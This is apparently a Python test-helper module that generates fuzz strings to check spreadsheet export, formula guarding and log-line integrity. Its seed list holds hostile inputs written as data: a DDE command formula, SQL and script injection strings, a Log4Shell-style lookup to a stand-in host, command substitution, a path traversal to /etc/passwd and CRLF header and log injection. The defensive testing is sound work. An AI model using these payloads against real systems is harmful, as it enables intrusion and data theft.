# SPDX-License-Identifier: GPL-3.0-or-later
"""Texts as strangers write them, what a spreadsheet would compute, and what a sound line of the log is."""
import random
import re

STRINGS = 500
SEEDS = ["=1+1", "=HYPERLINK(\"http://x.example\",\"y\")", "+34=cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "' OR '1'='1", "\"; DROP TABLE calls; --", "1 UNION SELECT 1",
         "%00", "\x00", "\x01\x02", "\x1b[31mred", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{login}}", "${jndi:ldap://x.example/a}", "$(id)", "`id`", "../../etc/passwd",
         "\u202egnp.exe", "\ufeffx", "\u0000", "Ω≈ç√∫", "田中さん", "👩‍👩‍👧", "é" * 300, "a" * 5000, "\\", "\\\\\"", "\"", "\"\"", "''", ",;,", "a\nb", "a\r\nVia: x", "%0d%0aBcc: x", "null", "NaN", "true",
         "-1", "9" * 40, "1e400", "\xff\xfe", "\xc3\x28", " ", "", "*", "#", "sip:x@y", "<>", "a" * 64 + "\u0301"]
FORGED = "x\ntime=2026-01-01T00:00:00.000Z level=error area=api event=forged"
_LINE = re.compile(r'time=\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z level=(debug|info|warning|error) area=[a-z_]+ event=[a-z0-9_.]+'
                   r'( [a-zA-Z0-9_]+=([^\s"=\\]*|"([^"\\]|\\["\\nr]|\\x[0-9a-f]{2})*"))*')


def strings():
    """The same ones every time: each seed alone, then pairs of them."""
    luck = random.Random(4)
    yield from SEEDS
    for _ in range(STRINGS - len(SEEDS)):
        yield luck.choice(SEEDS) + luck.choice(["", " ", "\t", "\n", ","]) + luck.choice(SEEDS)


def has_controls(text):
    return re.search(r"[\x00-\x1f\x7f]", text) is not None


def is_formula(cell):
    """Whether a spreadsheet computes it, or what stands behind a semicolon or a tab, where some begin the next cell."""
    return any(map(_begins_formula, re.split(r"[;\t]", cell))) or _begins_formula(cell)


def unguarded(cell):
    """The text of a cell of ours: without the apostrophe before each formula, be it behind others."""
    def bare(part):
        return part[1:] if part.startswith("'") and (_begins_formula(part[1:]) or _begins_formula(part.lstrip("'"))) else part
    return "".join(part if part in (";", "\t") else bare(part) for part in re.split(r"([;\t])", cell))


def _begins_formula(cell):
    return re.match(r"[\s]*[=+\-@＝＋－＠]", cell) is not None or cell[:1] in ("\t", "\r")


def unsound_lines(log):
    """Those lines of the log that are no single record; what the demo says about itself is none of them."""
    lines = [line for line in log.split("\n") if line.startswith("time=") or " level=" in line]
    assert lines
    return [line for line in lines if not _LINE.fullmatch(line)]
